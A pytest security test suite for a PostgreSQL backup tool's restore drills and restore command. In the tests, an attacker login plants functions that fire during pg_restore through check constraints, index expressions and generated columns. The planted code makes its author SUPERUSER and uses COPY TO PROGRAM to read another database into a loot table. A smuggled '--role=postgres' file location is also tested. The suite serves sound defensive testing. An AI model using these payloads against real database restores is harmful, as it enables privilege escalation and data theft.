"""Attacks on restore drills and `pggit-supervisor restore`, performed as an attacker would: a
real login that owns one schema of the backed-up database writes hostile functions into it, a
real supervisor dumps the database and drills the dump, and the test looks at what the attacker
gained on the production server. Each of these succeeded against 0.1.0."""

from __future__ import annotations

import os
import signal
import subprocess
import uuid
from pathlib import Path

import psutil
import psycopg2
import pytest

from helpers import CLI, ROOT
from helpers.db import make_dsn, query, scalar
from helpers.processes import wait_until
from helpers.service import wait_for_state
from helpers.session import DRILL_USER, PG_HOST, PG_PORT

# The attacker's trap, run by whoever evaluates it: as its author (the attacker testing it in
# production) it does nothing; as anyone else (the login that restores the dump) it acts.
TRAP = """CREATE FUNCTION {schema}.act() RETURNS void LANGUAGE plpgsql VOLATILE AS $f$
BEGIN
    IF current_user <> '{attacker}' THEN
        BEGIN
            EXECUTE 'ALTER ROLE "{attacker}" SUPERUSER';
        EXCEPTION WHEN others THEN NULL;
        END;
        BEGIN
            -- as the OS user the sandbox runs as, reach the queue's server over TCP (the test
            -- session's server trusts local TCP, as many dev machines do), read the queue as its
            -- superuser, and leave the loot where the attacker can read it
            EXECUTE $c$COPY (SELECT 1) TO PROGRAM 'psql -X -q -h {queue_host} -p {queue_port} -U postgres $c$
                 || $c$-d {queue_db} -c "INSERT INTO {schema}.loot $c$
                 || $c$SELECT job_id::text FROM pggit.backup_jobs"'$c$;
        EXCEPTION WHEN others THEN NULL;
        END;
    END IF;
END
$f$;
-- index expressions and generated columns take only immutable functions: one that calls the
-- volatile one is enough
CREATE FUNCTION {schema}.trap(x integer) RETURNS integer LANGUAGE plpgsql IMMUTABLE AS $f$
BEGIN
    PERFORM {schema}.act();
    RETURN x;
END
$f$"""

VARIANTS = {
    # evaluated for every row COPY loads
    "check_constraint": "CREATE TABLE {schema}.t (x integer CHECK ({schema}.trap(x) IS NOT NULL))",
    # evaluated when the index is built, after the data
    "index_expression": "CREATE TABLE {schema}.t (x integer); CREATE INDEX ON {schema}.t ({schema}.trap(x))",
    # a column default does not run under COPY (pg_dump lists every column); a generated one does
    "generated_column": "CREATE TABLE {schema}.t (x integer, y integer GENERATED ALWAYS AS ({schema}.trap(x)) STORED)",
}


@pytest.fixture
def attacker(db):
    """A real login that owns one schema of the queue's database, and nothing else."""
    name = "attacker_" + uuid.uuid4().hex[:8]
    db.cursor().execute(f'CREATE ROLE "{name}" LOGIN; CREATE SCHEMA "{name}" AUTHORIZATION "{name}"')
    yield name
    db.cursor().execute(f'DROP SCHEMA IF EXISTS "{name}" CASCADE; DROP OWNED BY "{name}"; DROP ROLE IF EXISTS "{name}"')


def _as(dsn: str, user: str):
    conn = psycopg2.connect(psycopg2.extensions.make_dsn(dsn, user=user))
    conn.autocommit = True
    return conn


def _plant(dsn: str, attacker: str, variant: str, rows: int = 3) -> None:
    """The attacker, logged in as itself, writes the trap into its own schema."""
    queue = psycopg2.extensions.parse_dsn(dsn)
    conn = _as(dsn, attacker)
    try:
        with conn.cursor() as cur:
            cur.execute(f'CREATE TABLE "{attacker}".loot (stolen text)')
            trap = TRAP.format(
                schema=f'"{attacker}"',
                attacker=attacker,
                queue_host=queue["host"],
                queue_port=queue["port"],
                queue_db=queue["dbname"],
            )
            cur.execute(trap)
            cur.execute(VARIANTS[variant].format(schema=f'"{attacker}"'))
            cur.execute(f'INSERT INTO "{attacker}".t (x) SELECT generate_series(1, %s)', (rows,))
    finally:
        conn.close()


def _server_state(db, attacker: str) -> list:
    """What the trap or the drill could change on the production server (other sessions share
    it, so only what concerns this test): the attacker's powers and memberships, the drill's
    own names, the objects of the queue's database."""
    return [
        query(
            db,
            "SELECT rolsuper, rolcreaterole, rolreplication, rolbypassrls, rolcanlogin FROM pg_roles "
            "WHERE rolname = %s",
            (attacker,),
        ),
        query(
            db, "SELECT roleid::regrole::text FROM pg_auth_members WHERE member = %s::regrole ORDER BY 1", (attacker,)
        ),
        query(
            db, "SELECT datname FROM pg_database WHERE datname LIKE 'pggit\\_restore\\_test\\_%%' OR datname = 'drill'"
        ),
        query(db, "SELECT rolname FROM pg_roles WHERE rolname LIKE 'pggit\\_drill%%'"),
        query(
            db,
            "SELECT n.nspname, c.relname, c.relkind FROM pg_class c JOIN pg_namespace n ON n.oid = c.relnamespace "
            "WHERE n.nspname NOT IN ('pg_catalog', 'information_schema', 'pg_toast') ORDER BY 1, 2",
        ),
    ]


def _dump_and_drill(db, backup_dir) -> tuple[str, dict]:
    backup_id = scalar(db, "SELECT pggit.backup_pg_dump('main', NULL, 'custom', %s)", (str(backup_dir),))
    job = str(scalar(db, "SELECT job_id FROM pggit.backup_jobs WHERE backup_id = %s", (backup_id,)))
    wait_for_state(db, job, "completed", timeout=90)
    drill = str(scalar(db, "SELECT pggit.schedule_restore_test(%s)", (backup_id,)))
    return str(backup_id), wait_for_state(db, drill, {"completed", "permanently_failed", "will_retry"}, timeout=120)


@pytest.mark.parametrize("variant", sorted(VARIANTS))
def test_hostile_function_in_a_drilled_dump_cannot_make_its_author_superuser(
    service, db, attacker, backup_dir, drill_tmpdir, variant
):
    _plant(db.dsn, attacker, variant)
    assert not scalar(db, "SELECT rolsuper FROM pg_roles WHERE rolname = %s", (attacker,))
    service()
    before = _server_state(db, attacker)
    backup_id, drill = _dump_and_drill(db, backup_dir)
    assert drill["job_state"] == "completed", drill["last_error"]
    assert scalar(db, "SELECT restore_test_result FROM pggit.backups WHERE backup_id = %s", (backup_id,)) == "passed"
    assert not scalar(db, "SELECT rolsuper FROM pg_roles WHERE rolname = %s", (attacker,)), (
        "the trap ran with the restoring login's rights on the production server"
    )
    assert _server_state(db, attacker) == before, "the drill changed the production server"
    assert not list(drill_tmpdir.iterdir()), "the sandbox is removed"


def test_hostile_function_in_a_drilled_dump_cannot_read_the_queue_database(service, db, attacker, backup_dir):
    _plant(db.dsn, attacker, "check_constraint")
    service()
    _backup_id, drill = _dump_and_drill(db, backup_dir)
    assert drill["job_state"] == "completed", drill["last_error"]
    loot = _as(db.dsn, attacker)
    try:
        stolen = scalar(loot, f'SELECT count(*) FROM "{attacker}".loot')
    finally:
        loot.close()
    assert stolen == 0, "the trap reached the queue's server over TCP from the drill and read pggit.backup_jobs"


# Run by the restore of each row: tries the queue's server over TCP from inside the drill's server
# and makes the restore fail with what it got, so the drill's error shows what the network allowed.
PROBE = """CREATE FUNCTION {schema}.probe(x integer) RETURNS boolean LANGUAGE plpgsql VOLATILE AS $f$
DECLARE
    got text;
BEGIN
    IF current_user = '{attacker}' THEN
        RETURN true;
    END IF;
    CREATE TEMP TABLE IF NOT EXISTS probe_output (line text);
    EXECUTE $c$COPY probe_output FROM PROGRAM 'psql -X -A -t -h {host} -p {port} -U postgres -d postgres $c$
         || $c$-c "SELECT 4200 + 42" 2>&1 | tr "\\t" " "; true'$c$;
    SELECT string_agg(line, ' ') INTO got FROM probe_output;
    RAISE EXCEPTION 'network probe: %', got;
END
$f$;
CREATE TABLE {schema}.probed (x integer CHECK ({schema}.probe(x)));
INSERT INTO {schema}.probed VALUES (1)"""


def test_hostile_function_in_a_drilled_dump_reaches_no_server_over_the_network(service, db, attacker, backup_dir):
    queue = psycopg2.extensions.parse_dsn(db.dsn)
    conn = _as(db.dsn, attacker)
    try:
        conn.cursor().execute(
            PROBE.format(schema=f'"{attacker}"', attacker=attacker, host=queue["host"], port=queue["port"])
        )
    finally:
        conn.close()
    service()
    backup_id, drill = _dump_and_drill(db, backup_dir)
    error = drill["last_error"] or ""
    assert drill["job_state"] == "permanently_failed" and "network probe:" in error, error
    assert "4242" not in error, "the drill's server reached the queue's server over TCP"
    assert f'connection to server at "{queue["host"]}", port {queue["port"]} failed: Network is unreachable' in error
    assert scalar(db, "SELECT restore_test_result FROM pggit.backups WHERE backup_id = %s", (backup_id,)) == "failed"


def test_killed_worker_leaves_no_postgres_of_its_drill_running(service, db, attacker, backup_dir, drill_tmpdir):
    conn = _as(db.dsn, attacker)
    # rows that take 0.3 s each to load, for anyone but their author
    conn.cursor().execute(f"""
        CREATE FUNCTION "{attacker}".slow(x integer) RETURNS boolean LANGUAGE sql AS
            $$ SELECT current_user = '{attacker}' OR (SELECT true FROM pg_sleep(0.3)) $$;
        CREATE TABLE "{attacker}".slow (x integer CHECK ("{attacker}".slow(x)));
        INSERT INTO "{attacker}".slow SELECT generate_series(1, 40)""")
    conn.close()
    svc = service(workers=1)
    backup_id = scalar(db, "SELECT pggit.backup_pg_dump('main', NULL, 'custom', %s)", (str(backup_dir),))
    job = str(scalar(db, "SELECT job_id FROM pggit.backup_jobs WHERE backup_id = %s", (backup_id,)))
    wait_for_state(db, job, "completed", timeout=90)
    drill = str(scalar(db, "SELECT pggit.schedule_restore_test(%s, '{\"max_attempts\": 2}')", (backup_id,)))

    def drill_servers() -> list[psutil.Process]:
        found = []
        for proc in psutil.process_iter(["username", "name", "cmdline"]):
            if (
                proc.info["username"] == DRILL_USER
                and proc.info["name"] == "postgres"
                and str(drill_tmpdir) in " ".join(proc.info["cmdline"] or [])
            ):
                found.append(proc)
        return found

    postmaster = wait_until(
        lambda: [p for p in drill_servers() if "-D" in (p.info["cmdline"] or [])],
        60,
        "the drill's postgres running as the drill user",
    )[0]
    sandbox_root = Path(postmaster.info["cmdline"][postmaster.info["cmdline"].index("-D") + 1]).parent
    worker = wait_until(
        lambda: next((w for w in svc.workers() if w.pid in {a.pid for a in postmaster.parents()}), None),
        10,
        "the drill's worker",
    )

    # the attacker's slow rows keep pg_restore busy: the worker dies in the middle of the drill
    wait_until(lambda: "pg_restore" in _names(worker.children(recursive=True)), 30, "pg_restore running")
    os.kill(worker.pid, signal.SIGKILL)
    wait_until(
        lambda: _gone(postmaster),
        15,
        "the killed worker's drill server gone",
    )
    wait_until(
        lambda: not [p for p in drill_servers() if str(sandbox_root) in " ".join(p.info["cmdline"] or [])],
        15,
        "every process of the killed drill gone",
    )
    # the next attempt sweeps what the killed one left on disk, then drills to the end
    row = wait_for_state(db, drill, {"completed", "permanently_failed"}, timeout=120)
    assert row["job_state"] == "completed", row["last_error"]
    assert not sandbox_root.exists(), "the killed drill's sandbox was removed"
    assert not [p for p in drill_servers() if str(drill_tmpdir) in " ".join(p.info["cmdline"] or [])], (
        "no drill server outlives its drill"
    )
    assert not list(drill_tmpdir.iterdir())


def _names(procs: list[psutil.Process]) -> set[str]:
    """The names of those of `procs` still there: one may exit between the listing and the look."""
    names = set()
    for proc in procs:
        try:
            names.add(proc.name())
        except psutil.NoSuchProcess:
            pass
    return names


def _gone(proc: psutil.Process) -> bool:
    """True once `proc` has exited (a zombie has), also when it goes between two looks at it."""
    try:
        return not proc.is_running() or proc.status() == psutil.STATUS_ZOMBIE
    except psutil.NoSuchProcess:
        return True


@pytest.fixture
def dumped(db, backup_dir):
    """A real custom-format dump of a small table, registered as a completed backup by hand."""
    db.cursor().execute("CREATE TABLE public.items AS SELECT g AS id FROM generate_series(1, 10) g")
    path = backup_dir / "items.dump"
    subprocess.run(
        [
            "runuser",
            "-u",
            "postgres",
            "--",
            "pg_dump",
            "--format=custom",
            f"--file={path}",
            "--table=public.items",
            db.dsn,
        ],
        check=True,
    )
    return path


def _register(db, location: str) -> str:
    backup_id = scalar(
        db,
        "SELECT pggit.register_backup('by-hand', 'full', 'pg_dump', %s, p_branch_name := 'main', "
        'p_metadata := \'{"format": "custom"}\')',
        (location,),
    )
    db.cursor().execute("SELECT pggit.complete_backup(%s)", (backup_id,))
    return str(backup_id)


def _config(tmp_path: Path, db, allowed: str) -> Path:
    config = tmp_path / "restore.yaml"
    config.write_text(f"dsn: '{db.dsn}'\ntools:\n  pg_dump: {{run_as: postgres, allowed_output_dirs: [{allowed}]}}\n")
    return config


def _tables(dsn: str) -> int:
    conn = psycopg2.connect(dsn)
    try:
        return scalar(conn, "SELECT count(*) FROM pg_tables WHERE schemaname = 'public'")
    finally:
        conn.close()


def test_restore_into_a_target_as_superuser_or_createrole_is_refused_without_the_trust_flag(
    db, dumped, empty_db, tmp_path, backup_dir
):
    backup_id = _register(db, f"file://{dumped}")
    config = _config(tmp_path, db, str(backup_dir))
    refused = subprocess.run(
        CLI + ["restore", backup_id, "--target-dsn", empty_db, "-c", str(config)],
        capture_output=True,
        text=True,
        cwd=ROOT,
    )
    assert refused.returncode == 1 and "--trust-backup-contents" in refused.stderr and "SUPERUSER" in refused.stderr
    assert _tables(empty_db) == 0, "nothing was restored"

    suffix = uuid.uuid4().hex[:8]
    creator, member = f"creator_{suffix}", f"member_{suffix}"
    db.cursor().execute(f'CREATE ROLE "{creator}" LOGIN CREATEROLE; CREATE ROLE "{member}" LOGIN IN ROLE "{creator}"')
    try:
        for login in (creator, member):
            target = psycopg2.extensions.make_dsn(empty_db, user=login)
            out = subprocess.run(
                CLI + ["restore", backup_id, "--target-dsn", target, "-c", str(config)],
                capture_output=True,
                text=True,
                cwd=ROOT,
            )
            assert out.returncode == 1 and "CREATEROLE" in out.stderr and "--trust-backup-contents" in out.stderr, login
        assert _tables(empty_db) == 0

        trusted = subprocess.run(
            CLI + ["restore", backup_id, "--target-dsn", empty_db, "-c", str(config), "--trust-backup-contents"],
            capture_output=True,
            text=True,
            cwd=ROOT,
        )
        assert trusted.returncode == 0, trusted.stderr
        assert _tables(empty_db) == 1
    finally:
        db.cursor().execute(f'DROP ROLE IF EXISTS "{member}"; DROP ROLE IF EXISTS "{creator}"')


def test_restore_as_the_unprivileged_owner_of_the_target_runs_without_the_flag(db, dumped, tmp_path, backup_dir):
    owner, name = f"owner_{uuid.uuid4().hex[:8]}", f"pggit_target_{uuid.uuid4().hex[:8]}"
    admin = psycopg2.connect(make_dsn(PG_HOST, PG_PORT, "postgres", "postgres"))
    admin.autocommit = True
    admin.cursor().execute(f'CREATE ROLE "{owner}" LOGIN')
    admin.cursor().execute(f'CREATE DATABASE "{name}" OWNER "{owner}"')
    try:
        target = make_dsn(PG_HOST, PG_PORT, owner, name)
        admin_target = psycopg2.connect(make_dsn(PG_HOST, PG_PORT, "postgres", name))
        admin_target.autocommit = True
        admin_target.cursor().execute(f'ALTER SCHEMA public OWNER TO "{owner}"')
        admin_target.close()
        backup_id = _register(db, f"file://{dumped}")
        out = subprocess.run(
            CLI + ["restore", backup_id, "--target-dsn", target, "-c", str(_config(tmp_path, db, str(backup_dir)))],
            capture_output=True,
            text=True,
            cwd=ROOT,
        )
        assert out.returncode == 0, out.stderr
        assert _tables(target) == 1
    finally:
        admin.cursor().execute(f'DROP DATABASE IF EXISTS "{name}" WITH (FORCE)')
        admin.cursor().execute(f'DROP ROLE IF EXISTS "{owner}"')
        admin.close()


def test_relative_file_location_is_refused_by_restore_even_from_inside_an_allowed_directory(
    db, dumped, empty_db, tmp_path, backup_dir
):
    backup_id = _register(db, "file:--role=postgres")
    out = subprocess.run(
        CLI + ["restore", backup_id, "--target-dsn", empty_db, "-c", str(_config(tmp_path, db, str(backup_dir)))],
        capture_output=True,
        text=True,
        cwd=str(backup_dir),
    )
    assert out.returncode == 1 and "restore refused" in out.stderr and "not an absolute file:// path" in out.stderr, (
        out.stderr
    )
    assert _tables(empty_db) == 0


def test_relative_file_location_is_refused_by_a_drill_even_from_inside_an_allowed_directory(service, db):
    # the supervisor runs in ROOT: allowing ROOT puts its current directory inside an allowed one
    svc = service(tools={"pg_dump": {"run_as": "postgres", "allowed_output_dirs": [str(ROOT)]}})
    backup_id = _register(db, "file:--role=postgres")
    drill = str(scalar(db, "SELECT pggit.schedule_restore_test(%s)", (backup_id,)))
    row = wait_for_state(db, drill, {"permanently_failed", "will_retry", "completed"}, timeout=60)
    assert row["job_state"] == "permanently_failed"
    assert row["last_error"].startswith("invalid job:") and "not an absolute file:// path" in row["last_error"]
    assert "pg_restore" not in svc.log()
